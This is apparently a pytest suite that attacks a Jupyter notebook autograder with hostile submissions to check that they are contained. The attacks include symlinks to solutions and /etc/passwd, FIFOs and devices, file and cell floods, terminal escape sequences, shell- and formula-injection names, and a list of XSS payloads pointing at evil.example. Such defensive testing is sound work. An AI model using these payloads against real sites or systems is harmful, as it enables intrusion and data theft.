"""The notebook itself, its folder and names as weapons: links, special files, floods, markup."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import stat
import tempfile
import time
import warnings
from collections import Counter
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from bs4 import BeautifulSoup, Tag

pytestmark = pytest.mark.attacks

P = "perceptron"
STRANGER = 61_234
MINUTE = 60.0


@pytest.fixture(scope="module")
def template(make_course, hand_in, notebooks, lending, repository, tmp_path_factory):
    """A course in which two innocents were graded alone, and their reports."""
    root = make_course(tmp_path_factory.mktemp("alone") / "c", only=[P], trials=1)
    shutil.copy(repository / "nbgrader_config.py", root)
    hand_in(root, "ana", P, notebooks.of(P))
    hand_in(root, "zoe", P, notebooks.of(P, {"lineal": "raise ValueError('no pude')"}))
    return root, _graded(root, lending)


@pytest.fixture
def handed_in(template, hand_in, lending, tmp_path):
    """Grade what hostile students hand in between the innocents, who get their usual reports.

    ``put`` has by student a notebook, bytes or a function that fills the folder; a function of two
    arguments gets the course's folder too. Gives the reports and the course's folder.
    """

    def grade(put):
        source, alone = template
        root = shutil.copytree(source, tmp_path / "c")
        for student, what in put.items():
            folder = root / "submitted" / student / P
            if callable(what):
                folder.mkdir(parents=True)
                what(folder) if what.__code__.co_argcount == 1 else what(folder, root)
            else:
                hand_in(root, student, P, what)
        begun = time.monotonic()
        reports = _graded(root, lending)
        assert time.monotonic() - begun < MINUTE
        assert {student: reports[student] for student in alone} == alone
        return reports, root

    return grade


def _graded(root, lending):
    from autograder.course import Course
    from autograder.exam import Options
    from autograder.grading import Grader

    with lending(), Grader(Course.at(root), Options(jobs=2)) as grader:
        return {one["student"]: one for one in grader.grade(P)}


def raw(notebook):
    return json.loads(nbformat.writes(notebook))


def dumped(notebook):
    return json.dumps(notebook).encode()


# --- links, special files, folders --------------------------------------------------------------


def test_a_link_in_the_place_of_a_notebook_is_no_notebook(handed_in):
    def link(target):
        return lambda folder, root: (folder / f"{P}.ipynb").symlink_to(root / target)

    reports, root = handed_in(
        {
            "solution": link(f"solutions/{P}/{P}.ipynb"),
            "other": link(f"submitted/ana/{P}/{P}.ipynb"),
            "relative": lambda folder: (folder / f"{P}.ipynb").symlink_to(
                f"../../ana/{P}/{P}.ipynb"
            ),
            "system": lambda folder: (folder / f"{P}.ipynb").symlink_to("/etc/passwd"),
            "nowhere": lambda folder: (folder / f"{P}.ipynb").symlink_to("nowhere"),
            "loop": lambda folder: (folder / f"{P}.ipynb").symlink_to(f"{P}.ipynb"),
        }
    )

    for student in ("solution", "other", "relative", "system", "nowhere", "loop"):
        report = reports[student]
        assert (report["score"], report["status"]) == (0, "errored"), student
        assert report["message"] == f"No se entregó el cuaderno: falta el archivo `{P}.ipynb`."
        shown = (root / f"autograded/{student}/{P}/{P}.ipynb").read_text("utf-8")
        assert "H = torch.dot" not in shown
        assert "root:" not in shown


def test_folders_that_are_links_to_the_solution_or_to_others_are_not_followed(handed_in):
    def linked_assignment(folder, root):
        folder.rmdir()
        folder.symlink_to(root / "solutions" / P)

    def linked_student(folder, root):
        folder.rmdir()
        folder.parent.rmdir()
        folder.parent.symlink_to(root / "submitted" / "ana")

    reports, root = handed_in({"assignment": linked_assignment, "student": linked_student})

    for student in ("assignment", "student"):
        assert (reports[student]["score"], reports[student]["status"]) == (0, "errored"), student
        assert sorted(p.name for p in (root / f"autograded/{student}/{P}").iterdir()) == [
            f"{P}.ipynb"
        ]


LOOK = """import os
for folder, folders, files in os.walk("."):
    print(sorted(folders + files))"""


def test_links_beside_a_notebook_are_neither_run_with_nor_kept(handed_in, notebooks):
    def fill(folder, root):
        nbformat.write(notebooks.of(P, own={"": LOOK}), folder / f"{P}.ipynb")
        (folder / "datos.csv").write_text("1")
        (folder / "clave").symlink_to(root / ".autograder/key")
        (folder / "soluciones").symlink_to(root / "solutions", target_is_directory=True)
        (folder / "raiz").symlink_to("/")
        (folder / "bucle").symlink_to(".")
        (folder / "timestamp.txt").symlink_to(root / ".autograder/key")

    reports, root = handed_in({"links": fill})

    assert reports["links"]["score"] == 10
    folder = root / f"autograded/links/{P}"
    assert sorted(one.name for one in folder.iterdir()) == ["datos.csv", f"{P}.ipynb"]
    cell = nbformat.read(folder / f"{P}.ipynb", as_version=4).cells[-1]
    assert cell.outputs[0].text == "['datos.csv']\n"


def test_special_files_do_not_hang_the_grader(handed_in, notebooks):
    def fifo_as_notebook(folder):
        os.mkfifo(folder / f"{P}.ipynb")

    def beside(make):
        def fill(folder):
            nbformat.write(notebooks.of(P, own={"": LOOK}), folder / f"{P}.ipynb")
            make(folder)

        return fill

    def sockets(folder):
        before = Path.cwd()
        os.chdir(folder)  # the path of a socket is short
        with contextlib.closing(socket.socket(socket.AF_UNIX)) as listener:
            listener.bind("enchufe")
        os.chdir(before)

    def devices(folder):
        for name, numbers in {"cero": (1, 5), "azar": (1, 8), "consola": (5, 1)}.items():
            with contextlib.suppress(PermissionError):  # not as a user, nor in every container
                os.mknod(folder / name, 0o666 | stat.S_IFCHR, os.makedev(*numbers))

    put = {
        "a fifo beside": beside(lambda folder: os.mkfifo(folder / "datos.csv")),
        "a fifo as timestamp": beside(lambda folder: os.mkfifo(folder / "timestamp.txt")),
        "a fifo below": beside(
            lambda folder: (folder / "datos").mkdir() or os.mkfifo(folder / "datos" / "x.csv")
        ),
        "a socket": beside(sockets),
        "devices": beside(devices),
        "a folder as timestamp": beside(lambda folder: (folder / "timestamp.txt").mkdir()),
    }
    reports, root = handed_in({**put, "a fifo": fifo_as_notebook})

    assert reports["a fifo"]["status"] == "errored"
    assert reports["a fifo"]["message"].startswith("No se entregó el cuaderno")
    for student in put:
        assert reports[student]["score"] == 10, student
        kept = list((root / f"autograded/{student}/{P}").rglob("*"))
        assert all(one.is_file() for one in kept), student
        assert [one.name for one in kept] == [f"{P}.ipynb"]


def test_a_device_in_the_place_of_a_notebook_is_not_read(handed_in):
    def endless(folder):
        try:
            os.mknod(folder / f"{P}.ipynb", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
        except PermissionError:
            pytest.skip("devices can be made by root only, and not in every container")

    reports, _ = handed_in({"endless": endless})

    assert reports["endless"]["status"] == "errored"


def test_very_deep_and_very_full_folders_do_not_end_the_batch(handed_in, notebooks):
    def deep(folder):
        nbformat.write(notebooks.of(P, own={"": LOOK}), folder / f"{P}.ipynb")
        (folder / "a/b").mkdir(parents=True)
        (folder / "a/b/datos.csv").write_text("1")
        here = os.open(folder / "a", os.O_RDONLY)
        for _ in range(3_000):  # deeper than any path can be written
            os.mkdir("d", dir_fd=here)
            below = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
        os.close(os.open("x.csv", os.O_WRONLY | os.O_CREAT, dir_fd=here))
        os.close(here)

    def full(folder):
        nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
        many = folder / "zzz"
        many.mkdir()
        for number in range(30_000):
            (many / f"{number}").symlink_to("nowhere")

    def nested(folder):
        nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
        for number in range(900):
            below = folder.joinpath(*[f"n{number}"] * 11)
            below.mkdir(parents=True)
            (below / "x").touch()

    reports, root = handed_in({"deep": deep, "full": full, "nested": nested})

    assert {who: reports[who]["score"] for who in ("deep", "full", "nested")} == {
        "deep": 10,
        "full": 10,
        "nested": 10,
    }
    assert (root / f"autograded/deep/{P}/a/b/datos.csv").exists()
    for number in range(3):  # pytest's own removal goes down by recursion
        _remove_deep(root / f"submitted/deep/{P}/a", number)


def _remove_deep(folder, number):
    """Flatten a chain of folders `d`, so that whoever removes it needs no recursion."""
    place = folder / "d"
    while place.exists():
        below = place / "d"
        if below.exists():
            below.rename(folder / f"next{number}")
        shutil.rmtree(place)
        if (folder / f"next{number}").exists():
            (folder / f"next{number}").rename(place)


def test_files_that_are_as_large_as_the_scratch_folder_spoil_nothing(handed_in, notebooks):
    def fill(folder):
        nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
        (folder / "a.bin").write_bytes(bytes(63 << 20))
        (folder / "b.bin").write_bytes(bytes((1 << 20) - 1))

    def sparse(folder):
        nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
        with (folder / "z.bin").open("wb") as file:
            file.truncate(1 << 40)

    def endless(folder):
        with (folder / f"{P}.ipynb").open("wb") as file:
            file.truncate(1 << 40)

    reports, _ = handed_in({"full": fill, "sparse": sparse, "endless": endless})

    assert (reports["full"]["score"], reports["sparse"]["score"]) == (10, 10)
    assert reports["endless"]["message"] == (
        f"El archivo `{P}.ipynb` es demasiado grande para un cuaderno."
    )


@contextlib.contextmanager
def nobody_special():
    """Without root's right to read everything."""
    if os.getuid() == 0:
        os.seteuid(STRANGER)
    try:
        yield
    finally:
        if os.getuid() == 0:
            os.seteuid(0)


def test_what_may_not_be_read_is_told_and_ends_no_batch(template, notebooks):
    from autograder.course import Course
    from autograder.submission import read_submission

    course = Course.at(template[0])
    assignment = course.assignment(P)
    with tempfile.TemporaryDirectory() as made:
        Path(made).chmod(0o755)
        for student in ("notebook", "file", "folder"):
            folder = Path(made) / "submitted" / student / P
            folder.mkdir(parents=True)
            nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
            (folder / "datos.csv").touch()
        (Path(made) / f"submitted/notebook/{P}/{P}.ipynb").chmod(0)
        (Path(made) / f"submitted/file/{P}/datos.csv").chmod(0)
        (Path(made) / f"submitted/folder/{P}").chmod(0)
        (Path(made) / "submitted/folder").chmod(0)
        with nobody_special():
            there = Course(Path(made), course.config)
            assert there.students(P) == ["file", "folder", "notebook"]
            assert len(list(there.submitted_texts(P))) == 1
            seen = {
                student: read_submission(there.submitted(student, P), student, assignment)
                for student in there.students(P)
            }
        (Path(made) / "submitted/folder").chmod(0o755)
        (Path(made) / f"submitted/folder/{P}").chmod(0o755)
    # Whoever closed them, it may not have been the student: no score, and a sentence for us.
    assert {student: one.unreadable for student, one in seen.items()} == dict.fromkeys(seen)
    assert all("Permission denied" in one.fault for one in seen.values())


TIMESTAMPS = {
    "digits": "1" * 80,
    "long": "1 " * 10_000_000,
    "fraction": "20260301T120000." + "9" * 60,
    "zone": "2026-03-01 12:00 EST5EDT4,M3.2.0",
    "far": "9999-12-31 23:59:59 -2359",
    "control": "\x1b[2J\x00\n\u202e",
    "surrogate": b"\xff\xfe\xed\xa0\x80",
    "formula": "=cmd|' /C calc'!A1",
}


def test_timestamps_that_are_none_cost_nothing_and_say_nothing(handed_in, notebooks, capsys):
    def fill(text):
        def fill(folder):
            nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
            content = text if isinstance(text, bytes) else text.encode()
            (folder / "timestamp.txt").write_bytes(content)

        return fill

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        reports, root = handed_in({who: fill(text) for who, text in TIMESTAMPS.items()})

    assert {reports[who]["score"] for who in TIMESTAMPS} == {10}
    assert (root / f"autograded/long/{P}/timestamp.txt").stat().st_size <= 100


# --- names --------------------------------------------------------------------------------------

OTHER_ALPHABETS = ("ñandú-Ωμέγα", "学生", "студент", "طالب", "😀", "می‌خواهم")
SHOWN = (
    "(reference)",
    "=cmd|'!A1",
    "+1",
    "@SUM(A1)",
    "%s{0}{student}",
    "-rf",
    "a,b;c",
    "quote\"'",
    "$(touch x)",
    "A" * 200,
)
ODD = (
    "new\nline",
    "esc\x1b[2J\x1b]0;title\x07",
    "c1\x9b2J",
    "rtl\u202egnp",
    "line\u2028end",
    " spaces ",
    "[bold red]x",
    "q?*",
    "<script>alert(1)<_script>",
    "B" * 201,
    os.fsdecode(b"caf\xe9"),
)
OWN_COLOURS = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture
def steering():
    """What would steer a terminal in a text, but for colours and what Rich draws with."""

    def found(text):
        rest = OWN_COLOURS.sub("", text)
        return [one for one in rest if not one.isprintable() and one not in "\n"]

    return found


def test_names_of_students_cannot_steer_the_terminal_and_odd_ones_are_told(
    template, autograder, hand_in, notebooks, steering, monkeypatch, tmp_path
):
    root = shutil.copytree(template[0], tmp_path / "c")
    for student in (*OTHER_ALPHABETS, *SHOWN, *ODD):
        hand_in(root, student, P, notebooks.of(P))
    for name, value in {"FORCE_COLOR": "1", "TERM": "xterm-256color", "COLUMNS": "260"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("NO_COLOR", raising=False)

    ran = autograder("grade", "--course", root, "--json", tmp_path / "reports.json")

    assert ran.status == 0, ran.err
    assert "\x1b[32m10/10" in ran.out, "colours were asked for"
    assert steering(ran.out + ran.err) == []
    reports = {
        one["student"]: one
        for one in json.loads((tmp_path / "reports.json").read_bytes())["reports"]
    }
    assert set(reports) == {"ana", "zoe", *OTHER_ALPHABETS, *SHOWN}
    assert {reports[one]["score"] for one in (*OTHER_ALPHABETS, *SHOWN)} == {10}
    assert reports["ana"] == template[1]["ana"]
    for student in SHOWN:
        assert student in ran.out.replace("\n", ""), student
    assert ran.err.count("is not graded: a student's folder has a name of at most") == len(ODD)
    assert len(ran.err.splitlines()) == len(ODD)


def test_errors_and_the_log_cannot_steer_the_terminal(
    template, autograder, steering, monkeypatch, tmp_path
):
    from autograder.submission import Submission

    root = shutil.copytree(template[0], tmp_path / "c")
    monkeypatch.setattr(Submission, "digest", "\x1b[2Jx")

    def broken(*_, **__):
        raise ValueError("\x1b]0;titulo\x07 de ana")

    monkeypatch.setattr("autograder.exam.observed_in", broken)

    ran = autograder("grade", "--course", root, "--student", "an\x1b[2Ja")

    assert (ran.status, steering(ran.out + ran.err)) == (2, [])
    assert "--student an�[2Ja: nobody" in ran.err

    ran = autograder("feedback", "--course", root, "x\x1b[2J")

    assert (ran.status, steering(ran.out + ran.err)) == (2, [])


def test_the_log_holds_nothing_that_steers_a_terminal(template, autograder, steering, tmp_path):
    import logging

    root = shutil.copytree(template[0], tmp_path / "c")
    assert autograder("grade", "--course", root).status == 0
    try:
        raise ValueError("\x1b]0;titulo\x07")
    except ValueError:
        logging.getLogger("autograder").exception("%s", "ana\x1b[2J\u202e")

    text = (root / ".autograder/log").read_text("utf-8")
    assert "titulo" in text
    assert steering(text) == []


def test_files_beside_a_notebook_may_have_any_name(handed_in, notebooks):
    names = ["..fuera", "...", "-rf", "$(touch x)", "con\nlínea", "esc\x1b[2J", "rtl\u202egnp"]
    names += ["c1\x9b2J", "C:\\x", "~", "'", '"', "<script>", "=1+1", "x" * 255, "😀", " "]
    names += ["..\\..\\fuera", "%2e%2e%2ffuera", "conftest.py", "torch.py", "autograder.py"]

    def fill(folder):
        nbformat.write(notebooks.of(P), folder / f"{P}.ipynb")
        for name in names:
            (folder / name).write_text("raise SystemExit")
        (folder / os.fsdecode(b"caf\xe9.csv")).touch()
        (folder / "autograder").mkdir()
        (folder / "autograder/__init__.py").write_text("raise SystemExit")

    before = set(Path.cwd().iterdir())
    reports, root = handed_in({"names": fill})

    assert reports["names"]["score"] == 10
    kept = {one.name for one in (root / f"autograded/names/{P}").iterdir()}
    assert kept == {*names, f"{P}.ipynb", "autograder"}
    assert not list(root.parent.rglob("fuera"))
    assert set(Path.cwd().iterdir()) == before


# --- cells and marks ----------------------------------------------------------------------------


def marks(cell):
    return cell["metadata"].get("nbgrader", {})


def test_marks_of_a_students_own_making_give_no_points(handed_in, notebooks):
    wrong = raw(notebooks.of(P, {"lineal": "H = 1", "funcion": "perceptron = 1"}))
    grade = next(one for one in wrong["cells"] if marks(one).get("grade_id") == "lineal-check")
    solution = next(one for one in wrong["cells"] if marks(one).get("grade_id") == "lineal")

    def with_cells(*cells, **changes):
        made = json.loads(json.dumps(wrong))
        for cell in made["cells"]:
            if marks(cell).get("grade_id") in ("lineal", "lineal-check"):
                cell["metadata"]["nbgrader"].update(changes)
        made["cells"] += json.loads(json.dumps(cells))
        return dumped(made)

    def marked(cell, **changes):
        return {**cell, "metadata": {**cell["metadata"], "nbgrader": {**marks(cell), **changes}}}

    odd = [[], {}, None, 1, "x" * 100_000, "../../..", "lineal\n", "<script>", "\x1b[2J", True]
    reports, _ = handed_in(
        {
            "twin": dumped(wrong),
            "more points": with_cells(points=1000, locked=False),
            "own grade cell": with_cells(
                marked(grade, grade_id="extra-check", points=1000),
                marked(solution, grade_id="extra", points=1000, grade=True),
            ),
            "manual": with_cells(task=True, grade=True, solution=True),
            "scores": with_cells(score=10, auto_score=10, manual_score=10, comment="10/10"),
            "twice": with_cells(*[grade] * 3, *[solution] * 3),
            "odd ids": with_cells(*[marked(solution, grade_id=one) for one in odd]),
            "odd marks": with_cells(*[{**solution, "metadata": {"nbgrader": one}} for one in odd]),
            "odd metadata": with_cells(*[{**solution, "metadata": one} for one in odd]),
            "odd cells": dumped({**wrong, "cells": [*odd, *wrong["cells"], *odd]}),
            "odd notebook": dumped({**wrong, "metadata": {"kernelspec": odd, "language_info": 1}}),
        }
    )

    twin = reports["twin"]
    assert twin["score"] < 8
    for student, report in reports.items():
        if student not in ("ana", "zoe"):
            assert report["exercises"] == twin["exercises"], student
            assert (report["score"], report["status"]) == (twin["score"], "graded"), student


def test_floods_of_cells_are_graded_or_refused_in_bounded_time(handed_in, notebooks):
    wrong = raw(notebooks.of(P, {"lineal": "H = 1"}))
    by_id = {marks(one).get("grade_id"): one for one in wrong["cells"]}
    own = {"cell_type": "code", "metadata": {}, "source": "1", "outputs": []}

    def cells(*more):
        return dumped({**wrong, "cells": [*wrong["cells"], *more]})

    put = {
        "grade cells": cells(*[by_id["lineal-check"]] * 19_000),
        "solutions": cells(*[by_id["lineal"]] * 500),
        "texts": cells(*[{"cell_type": "markdown", "metadata": {}, "source": "# x"}] * 19_000),
        "own": cells(*[own] * 2_000),
    }
    refused = {
        "too many": cells(*[{}] * 20_001),
        "empty ones": b'{"nbformat": 4, "cells": [' + b"{}," * 30_000_000 + b"{}]}",
        "a bomb": b'{"nbformat": 4, "cells": [], "x": [' + b'{"a":1},' * 12_000_000 + b"1]}",
        "digits": b'{"nbformat": 4, "cells": [], "x": ' + b"9" * 5_000_000 + b"}",
    }
    reports, _ = handed_in({**put, **refused})

    assert {reports[who]["score"] for who in put} == {7}
    assert {reports[who]["status"] for who in refused} == {"errored"}
    assert {reports[who]["score"] for who in refused} == {0}


def test_a_cell_of_10_mb_and_what_it_shows_get_a_page_in_bounded_time(
    template, autograder, hand_in, notebooks, tmp_path
):
    root = shutil.copytree(template[0], tmp_path / "c")
    long = notebooks.solution(P, "funcion") + '\ntexto = """' + ("x" * 99 + "\n") * 100_000 + '"""'
    line = notebooks.solution(P, "lineal") + f"\ntexto = '{'(' * 5_000_000}'"
    made = notebooks.of(P, own={"": ["0"]})
    made.cells.append(nbformat.v4.new_markdown_cell("[" * 5_000_000))
    made.cells.append(nbformat.v4.new_raw_cell("<" * 5_000_000))
    hand_in(root, "lines", P, notebooks.of(P, {"funcion": long, "lineal": line}))
    hand_in(root, "markdown", P, made)
    begun = time.monotonic()

    assert autograder("grade", "--course", root).status == 0
    ran = autograder("feedback", "--course", root)

    assert ran.status == 0, ran.err
    assert "4 feedback pages" in ran.out
    assert time.monotonic() - begun < 2 * MINUTE


# --- markup -------------------------------------------------------------------------------------

BAD = "mala"
PAYLOADS = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style>*{display:none}</style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</pre></div></textarea></title></style><script>alert(1)</script>",
    "<div style='position:fixed;background:url(//evil.example)'>10/10</div>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x]: javascript:alert(1)",
    "$\\href{javascript:alert(1)}{x}$ $$</script><script>alert(1)</script>$$",
    "`x`<script>alert(1)</script>`",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<script>alert(1)</script>\x1b[0m",
    '\x1b[38;2;1;2;3" onmouseover=alert(1) x="m texto',
)
KINDS = (
    "text/html",
    "text/plain",
    "text/markdown",
    "text/latex",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "application/javascript",
    "application/json",
    "application/pdf",
    "text/vnd.mermaid",
    "application/vnd.jupyter.widget-view+json",
    "text/html;charset=utf-8",
)
SHOW = """
from IPython.display import display
PAYLOADS = {payloads!r}
for payload in PAYLOADS:
    for kind in {kinds!r}:
        display({{kind: payload}}, raw=True, metadata={{kind: {{"isolated": True}}}})
    print(payload)
    print(payload, file=__import__("sys").stderr)
    get_ipython().showtraceback((type(payload, (Exception,), {{}}), Exception(payload), None))
"""
HARMLESS = SHOW.format(payloads=["texto"] * len(PAYLOADS), kinds=KINDS)


def hostile(notebooks, payload_cell, texts, name):
    """A notebook that shows ``texts`` wherever a page shows something of a student's."""
    answers = {
        "tensores": f"y = type({name!r}, (), {{}})()\nr = {name!r}\nz = torch.ones(1)",
        "lineal": f"raise type({name!r}, (Exception,), {{}})({texts[0]!r})",
        "funcion": "def perceptron(x, w, b):\n"
        f"    raise type({name!r}, (Exception,), {{}})({texts[1]!r})",
    }
    made = notebooks.of(P, answers, own={"": payload_cell})
    made.cells += [nbformat.v4.new_markdown_cell(text) for text in texts]
    made.cells += [nbformat.v4.new_raw_cell(text) for text in texts]
    made.cells += [nbformat.v4.new_code_cell(f"# {text}") for text in texts]
    attached = nbformat.v4.new_markdown_cell("![x](attachment:x.png) ![y](attachment:y)")
    attached["attachments"] = {
        "x.png": {"image/png": f'"><script>{texts[0]}</script>', "text/html": texts[0]},
        "y": {"image/svg+xml": texts[2]},
    }
    made.cells.append(attached)
    made.metadata["title"] = texts[0]
    made.metadata["language_info"] = {"pygments_lexer": texts[0], "name": texts[1]}
    return made


DANGEROUS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "textarea", "base", "link",
    "meta", "svg", "math", "style", "video", "audio", "applet", "frame", "template",
}  # fmt: skip


def dangers(page):
    """All of a page that could act or fetch, counted: elements, handlers, addresses, styles."""
    found = Counter()
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        assert isinstance(element, Tag)
        if element.name in DANGEROUS:
            found[element.name, str(element)[:200]] += 1
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or name in ("srcdoc", "style", "formaction", "action"):
                found[element.name, name, text] += 1
            safe = re.match(r"(#|https?://|mailto:|data:image/(png|jpeg|gif|webp|svg))", text)
            if name in ("href", "src", "data", "xlink:href") and not safe:
                found[element.name, name, text] += 1
    return found


@pytest.fixture(scope="module")
def marked_up(template, hand_in, notebooks, lending, tmp_path_factory):
    """A course in which one student shows payloads everywhere, and another harmless text."""
    root = shutil.copytree(template[0], tmp_path_factory.mktemp("markup") / "c")
    show = SHOW.format(payloads=PAYLOADS, kinds=KINDS)
    hand_in(root, BAD, P, hostile(notebooks, show, PAYLOADS, PAYLOADS[0]))
    plain = ["texto"] * len(PAYLOADS)
    hand_in(root, "buena", P, hostile(notebooks, HARMLESS, plain, "texto"))
    return root, _graded(root, lending)


def test_a_feedback_page_holds_nothing_of_a_students_that_acts(marked_up, autograder):
    root, _ = marked_up
    assert autograder("feedback", "--course", root).status == 0

    bad, good = (
        (root / f"feedback/{student}/{P}/{P}.html").read_text("utf-8") for student in (BAD, "buena")
    )

    assert dangers(bad) - dangers(good) == Counter()
    assert "alert(" in BeautifulSoup(bad, "html.parser").get_text(), "it is shown, as text"


@pytest.fixture
def formgrader(marked_up, monkeypatch):
    """What nbgrader's formgrader shows of a student's submission."""
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    root, _ = marked_up
    monkeypatch.chdir(root)
    FormgradeExtension.clear_instance()
    extension = FormgradeExtension()
    extension.root_dir = str(root)
    extension.initialize([])

    web = SimpleNamespace(settings={})
    extension.init_tornado_settings(web)
    exporter = web.settings["nbgrader_exporter"]

    def page(student):
        resources = {"notebook_id": P, "submission_id": "1", "assignment_id": P, "base_url": ""}
        resources |= {"index": 0, "total": 1, "student": student, "notebook_path": "x"}
        resources |= {"first_name": None, "last_name": None}
        path = root / f"autograded/{student}/{P}/{P}.ipynb"
        return exporter.from_filename(str(path), resources=resources)[0]

    yield page
    FormgradeExtension.clear_instance()


def test_the_formgrader_shows_its_own_page_and_nothing_of_a_students_that_acts(formgrader):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        bad, good = formgrader(BAD), formgrader("buena")

    fields = [one["id"] for one in BeautifulSoup(good, "html.parser").find_all("textarea")]
    assert "lineal-comment" in fields, "the formgrader's own template"
    ids = re.compile(r'id="[-0-9a-f]{36}"|#[-0-9a-f]{36}')
    assert dangers(ids.sub("", bad)) - dangers(ids.sub("", good)) == Counter()
    assert "alert(" in BeautifulSoup(bad, "html.parser").get_text()


def test_comments_are_text_wherever_nbgrader_renders_them(marked_up):
    """nbgrader's own feedback template renders comments as Markdown and lets HTML through."""
    from nbconvert.filters import markdown2html
    from nbgrader.api import Gradebook

    root, _ = marked_up
    with Gradebook(f"sqlite:///{root}/gradebook.db") as book:
        comments = [
            one.comment for one in book.find_submission_notebook(P, P, BAD).comments if one.comment
        ]

    assert any("alert" in one for one in comments)
    for comment in comments:
        rendered = BeautifulSoup(str(markdown2html(comment)), "html.parser")
        elements = {one.name for one in rendered.find_all(True)}
        assert elements <= {"p", "strong", "ul", "li", "code"}, comment
        assert all(not one.attrs for one in rendered.find_all(True)), comment
        assert not [one for one in comment if not one.isprintable() and one != "\n"]


def test_messages_of_reports_steer_no_terminal(marked_up, steering):
    _, reports = marked_up

    messages = [
        said
        for exercise in reports[BAD]["exercises"]
        for check in exercise["checks"]
        for said in (check["message"], check["difference"])
    ]
    assert any("alert" in one for one in messages)
    assert steering("".join(messages)) == []


def test_a_students_own_check_obeys_nothing_of_a_notebook(
    autograder, notebooks, steering, tmp_path, monkeypatch
):
    monkeypatch.setenv("FORCE_COLOR", "1")
    escape = "\x1b[2J\x1b]0;titulo\x07\x9b2J\u202e"
    made = notebooks.of(
        P,
        {
            "lineal": f"raise type({escape!r}, (Exception,), {{}})({escape!r})",
            "funcion": f"assert False, {escape!r}",
        },
        own={"": [f"raise NameError({escape!r})", f"print({escape!r})"]},
    )
    for cell in made.cells:
        if marks(cell).get("grade_id") == "activacion":
            cell.metadata.nbgrader.grade_id = f"activacion{escape}"
        if cell.cell_type == "code":
            cell.execution_count = 1
    nbformat.write(made, tmp_path / f"{P}.ipynb")

    ran = autograder("check", tmp_path / f"{P}.ipynb")

    assert ran.status == 1
    assert "activacion" in ran.out
    assert steering(ran.out + ran.err) == []
